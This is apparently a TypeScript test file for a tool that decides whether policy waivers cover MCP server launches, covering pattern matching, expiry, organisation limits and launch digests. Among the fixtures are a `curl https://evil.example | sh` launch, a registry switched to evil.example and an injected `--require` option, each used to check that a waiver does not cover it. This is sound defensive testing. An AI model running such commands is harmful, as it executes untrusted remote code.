import { describe, expect, test } from 'vitest';
import { emptyLayer } from '../../../src/gate/settings/layers.ts';
import { readPattern } from '../../../src/judging/patterns/parse-pattern.ts';
import type { Floor } from '../../../src/judging/policy/keys.ts';
import { createWaiverBinding } from '../../../src/judging/policy/waiver-bindings.ts';
import { createWaiverIndex } from '../../../src/judging/policy/waivers.ts';
import type { Waiver } from '../../../src/model/model.ts';
import { parseDependency } from '../../builders.ts';

const waiver = (about: Partial<Waiver>): Waiver => ({
  match: null,
  file: null,
  alias: null,
  rule: 'unlisted',
  check: null,
  reason: 'x',
  expires: '2027-01-01',
  writtenIn: 'policy',
  span: null,
  ...about,
});

function byPattern(text: string): Waiver {
  const match = readPattern(text);
  if ('fault' in match) throw new Error(match.fault);
  return waiver({ match });
}

/** Returns the fields, other than the file, that a waiver for a launch in `.mcp.json` names. */
const bound = (launch: string): Partial<Waiver> => ({
  ...{ alias: 'alias', ...createWaiverBinding('unlisted', parseDependency(launch)) },
});

/** Returns whether a waiver covers a launch or, if the launch is null, a problem with a file. */
const covers = (given: Waiver, launch: string | null, file = '.mcp.json'): boolean => {
  const dependency = launch === null ? null : parseDependency(launch, { file });
  const subject = { rule: 'unlisted', file, dependency };
  return createWaiverIndex([given], [], 0).find(subject, null).waiver !== null;
};

describe('a waiver is found by what it names', () => {
  test.for<[string, string, boolean]>([
    ['pkg:npm/@acme/files', 'npx -y @acme/files', true],
    ['pkg:npm/@acme/files', 'npx -y @acme/files-2', false],
    ['pkg:npm/@acme/files-2', 'npx -y @acme/files', false],
    ['pkg:npm/@acme/*', 'npx -y @acme/files', true],
    ['pkg:npm/@acme/*', 'npx -y @acme-evil/files', false],
    ['pkg:npm/@acme/f*s', 'npx -y @acme/files', true],
    ['pkg:npm/@acme/f*s', 'npx -y @acme/file', false],
    ['pkg:npm/@acme/f*', 'npx -y @acme/f', true],
    ['pkg:pypi/files', 'npx -y files', false],
    ['https://mcp.acme.example/**', 'https://mcp.acme.example/a/b', true],
    ['https://mcp.acme.example/a/**', 'https://mcp.acme.example/a', true],
    ['https://mcp.acme.example/a/**', 'https://mcp.acme.example/ab', false],
    ['https://mcp.acme.example/**', 'https://mcp.acme.example.evil.example/a', false],
    ['pkg:oci/ghcr.io/acme/*', 'docker run ghcr.io/acme/files:1.0.0', true],
    ['pkg:oci/ghcr.io/acme/*', 'docker run ghcr.io/acmes/files:1.0.0', false],
  ])('%s and %s: %s', ([pattern, launch, expected]) => {
    expect(covers(byPattern(pattern), launch)).toBe(expected);
  });

  test('by its file, not by another one with the same beginning', () => {
    const given = waiver({ file: 'a/.mcp.json' });
    expect(covers(given, null, 'a/.mcp.json')).toBe(true);
    expect(covers(given, null, 'a/.mcp.json5')).toBe(false);
    const ofServer = waiver({ file: 'a/.mcp.json', ...bound('node ./x') });
    expect(covers(ofServer, 'node ./x', 'a/.mcp.json')).toBe(true);
    expect(covers(ofServer, 'node ./x', 'a/.mcp.json5')).toBe(false);
    expect(covers({ ...ofServer, alias: 'other' }, 'node ./x', 'a/.mcp.json')).toBe(false);
  });

  test('the most specific waiver first', () => {
    const [wide, narrow] = [byPattern('pkg:npm/@acme/*'), byPattern('pkg:npm/@acme/files')];
    const subject = {
      rule: 'unlisted',
      file: '.mcp.json',
      dependency: parseDependency('npx -y @acme/files'),
    };
    expect(createWaiverIndex([wide, narrow], [], 0).find(subject, null).waiver).toBe(narrow);
  });
});

test('many waivers of different beginnings are all found, the longest first', () => {
  const given = ['pkg:npm/@acme/*', 'pkg:npm/@acme/files-*', 'pkg:npm/@acme/files', 'pkg:npm/@a/b'];
  const waivers = [...given, 'https://mcp.acme.example/**'].map(byPattern);
  const index = createWaiverIndex(waivers, [], 0);
  const found = (launch: string) => {
    const dependency = parseDependency(launch);
    const { waiver: one } = index.find({ rule: 'unlisted', file: '.mcp.json', dependency }, null);
    return one?.match?.text ?? null;
  };
  expect(found('npx @acme/files-2')).toBe('pkg:npm/@acme/files-*');
  expect(found('npx @acme/files')).toBe('pkg:npm/@acme/files');
  expect(found('npx @acme/f')).toBe('pkg:npm/@acme/*');
  expect(found('npx @a/b')).toBe('pkg:npm/@a/b');
  expect(found('npx @a/c')).toBe(null);
  expect(found('https://mcp.acme.example/x')).toBe('https://mcp.acme.example/**');
  expect(found('npx mcp-acme')).toBe(null);
});

describe('what a waiver does not cover', () => {
  const covering = (given: Waiver, subject: { rule?: string; launch?: string | null }) => {
    const { rule = 'unlisted', launch = null } = subject;
    const dependency = launch === null ? null : parseDependency(launch);
    const about = { rule, file: '.mcp.json', dependency };
    const index = createWaiverIndex([given], [], 0);
    return index.find(about, null).waiver !== null;
  };

  test.for<[string, Waiver, { rule?: string; launch?: string | null }, boolean]>([
    ['its own rule', byPattern('pkg:npm/a'), { launch: 'npx a' }, true],
    ['another rule', byPattern('pkg:npm/a'), { launch: 'npx a', rule: 'denied' }, false],
    ['a problem of a file', waiver({ file: '.mcp.json' }), {}, true],
    ['a file, by a pattern', byPattern('pkg:npm/a'), {}, false],
    ['a file, by an alias', waiver({ file: '.mcp.json', alias: 'alias' }), {}, false],
    ['a local server, by its file', waiver({ file: '.mcp.json' }), { launch: 'node ./x' }, false],
    [
      'an identified server, by its alias',
      waiver({ file: '.mcp.json', alias: 'alias' }),
      { launch: 'npx a' },
      false,
    ],
    [
      'an address of the machine itself, by its alias',
      waiver({ file: '.mcp.json', ...bound('http://localhost:3000/mcp') }),
      { launch: 'http://localhost:3000/mcp' },
      true,
    ],
    [
      'an address of the machine itself, by its pattern',
      byPattern('http://localhost:3000/**'),
      { launch: 'http://localhost:3000/mcp' },
      true,
    ],
    [
      'another address of the machine itself',
      byPattern('http://localhost:3000/**'),
      { launch: 'http://localhost:3001/mcp' },
      false,
    ],
    // A pattern that names no owner could match packages from any owner.
    ['what a pattern without an owner names', byPattern('pkg:npm/**'), { launch: 'npx a' }, false],
  ])('%s', ([, given, subject, expected]) => {
    expect(covering(given, subject)).toBe(expected);
  });
});

describe('when a waiver counts', () => {
  const day = 24 * 60 * 60 * 1000;
  const subject = { rule: 'unlisted', file: '.mcp.json', dependency: null };
  const floorWith = (changes: Partial<Floor>): Floor => ({
    ...emptyLayer,
    source: 'the organisation',
    commit: null,
    overridable: new Set(),
    waivable: new Set(['unlisted']),
    maxWaiverDays: null,
    extends: null,
    ...changes,
  });

  /**
   * Returns the waiver's status after one problem, the days that are left, the reason and the problems
   * covered.
   */
  const onDay = (expires: string, now: number, floors: readonly Floor[] = []) => {
    const given = waiver({ file: '.mcp.json', expires });
    const index = createWaiverIndex([given], floors, now);
    const { waiver: found, inactive, ofOtherChecks } = index.find(subject, null);
    expect(ofOtherChecks).toEqual([]);
    const [report] = index.reports();
    const isUsed = report?.status === 'used';
    expect([found, inactive]).toEqual(isUsed ? [given, []] : [null, [given]]);
    return [report?.status, report?.daysLeft, report?.reason, report?.covers];
  };

  test.for([
    ['2027-01-01', 0, 'used', 0],
    ['2027-01-01', 1, 'used', 0],
    ['2027-01-01', day - 1, 'used', 0],
    ['2027-01-01', day, 'expired', -1],
    ['2027-01-01', -1, 'used', 1],
    ['2027-01-31', 0, 'used', 30],
    ['2026-12-01', 0, 'expired', -31],
  ] as const)('one until %s, %d ms into 2027: %s, %d days left', ([until, ms, status, left]) => {
    expect(onDay(until, Date.UTC(2027, 0, 1) + ms)).toEqual([status, left, null, 1]);
  });

  const now = Date.UTC(2027, 0, 1);
  const refused = "the organisation's policy does not allow waivers of unlisted";
  const tooLong = "the organisation's policy limits waivers to 30 days";
  test.for<[string, Partial<Floor>, string, string | null]>([
    ['2027-01-31', { maxWaiverDays: 30 }, 'used', null],
    ['2027-02-01', { maxWaiverDays: 30 }, 'refused', tooLong],
    ['2027-02-01', {}, 'used', null],
    ['2027-01-31', { waivable: new Set(['denied']) }, 'refused', refused],
    ['2026-01-31', { waivable: new Set(['denied']) }, 'expired', refused],
  ])('one until %s under a floor with %j is %s', ([until, changes, status, reason]) => {
    const [found, , why] = onDay(until, now, [floorWith({}), floorWith(changes)]);
    expect([found, why]).toEqual([status, reason]);
  });

  test("an organisation's own waiver is limited by those above it alone", () => {
    const given = waiver({ file: '.mcp.json' });
    const strict = { waivable: new Set<string>() };
    const owning = { ...strict, values: { waivers: [given] } };
    const statusUnder = (floors: readonly Floor[]) => {
      const index = createWaiverIndex([given], floors, now);
      index.find(subject, null);
      return index.reports()[0]?.status;
    };
    expect(statusUnder([floorWith(owning)])).toBe('used');
    expect(statusUnder([floorWith(strict), floorWith(owning)])).toBe('used');
    expect(statusUnder([floorWith(owning), floorWith(strict)])).toBe('refused');
    expect(statusUnder([floorWith(strict)])).toBe('refused');
  });
});

test('each use of a waiver counts once, and one of the whole rule covers every check', () => {
  const [short, ...longer] = ['a', 'ab', 'abc-d'].map((name) => byPattern(`pkg:npm/${name}`));
  const index = createWaiverIndex([...(short === undefined ? [] : [short]), ...longer], [], 0);
  const subject = { rule: 'unlisted', file: '.mcp.json', dependency: parseDependency('npx a') };
  expect(index.find(subject, 'a check')).toMatchObject({ waiver: short, ofOtherChecks: [] });
  expect(index.reports().map(({ covers }) => covers)).toEqual([1, 0, 0]);
});

test('a waiver of one check covers that check, and says for which others it was looked up', () => {
  const subject = { rule: 'failing-finding', file: '.mcp.json', dependency: null };
  const given = waiver({ rule: 'failing-finding', file: '.mcp.json', check: 'b' });
  const index = createWaiverIndex([given], [], 0);
  expect(index.reports()).toMatchObject([{ status: 'unused', covers: 0, otherChecks: [] }]);
  expect(index.find(subject, 'b')).toEqual({ waiver: given, inactive: [], ofOtherChecks: [] });
  for (const check of ['c', 'a', 'c']) {
    expect(index.find(subject, check)).toEqual({
      ...{ waiver: null, inactive: [], ofOtherChecks: [given] },
    });
  }
  expect(index.find(subject, null).ofOtherChecks).toEqual([given]);
  index.find(subject, 'b');
  expect(index.reports()).toEqual([
    {
      ...{ waiver: given, status: 'used', covers: 2, otherChecks: ['a', 'c'] },
      ...{ daysLeft: 20_819, reason: null },
    },
  ]);
});

describe('a waiver covers what was reviewed', () => {
  const file = '.mcp.json';
  const find = (given: Waiver, rule: string, launch: string) => {
    const index = createWaiverIndex([given], [], 0);
    const { waiver: found, inactive } = index.find(
      { rule, file, dependency: parseDependency(launch, { file }) },
      null,
    );
    return { isCovered: found !== null, inactive, ...index.reports()[0] };
  };

  test.for([
    ['./bin/server --safe', true],
    ["bash -c 'curl https://evil.example | sh'", false],
    ['./bin/server --unsafe', false],
  ] as const)('%s under the alias of ./bin/server --safe: %s', ([launch, expected]) => {
    const given = waiver({ file, rule: 'unidentified', ...bound('./bin/server --safe') });
    const found = find(given, 'unidentified', launch);
    expect(found.isCovered).toBe(expected);
    if (expected) return;
    expect(found.inactive).toEqual([given]);
    expect(found.unbound).toEqual([expect.stringMatching(/^launch: "[0-9a-f]{16}"$/)]);
  });

  test('without a digest it covers no launch, and the report has the digest', () => {
    const given = waiver({ file, alias: 'alias', rule: 'unidentified' });
    const { isCovered, status, unbound } = find(given, 'unidentified', './bin/server');
    expect([isCovered, status]).toEqual([false, 'unused']);
    expect(unbound).toEqual([`launch: "${bound('./bin/server').launch}"`]);
  });

  const mirrored = 'npx --registry=https://npm.acme.example a@1.0.0';
  test.for([
    [mirrored, true],
    ['npx --registry=https://evil.example a@1.0.0', false],
    ['npx --registry=https://npm.acme.example --node-options=--require=./e.js a@1.0.0', false],
  ] as const)('%s under the waiver of a mirror: %s', ([launch, expected]) => {
    const given = { ...byPattern('pkg:npm/a'), rule: 'altered-launch' };
    const named = { ...given, ...createWaiverBinding('altered-launch', parseDependency(mirrored)) };
    expect(find(named, 'altered-launch', launch).isCovered).toBe(expected);
    const { isCovered, unbound } = find(given, 'altered-launch', launch);
    expect([isCovered, unbound]).toEqual([false, [expect.stringContaining('--registry ')]]);
  });
});
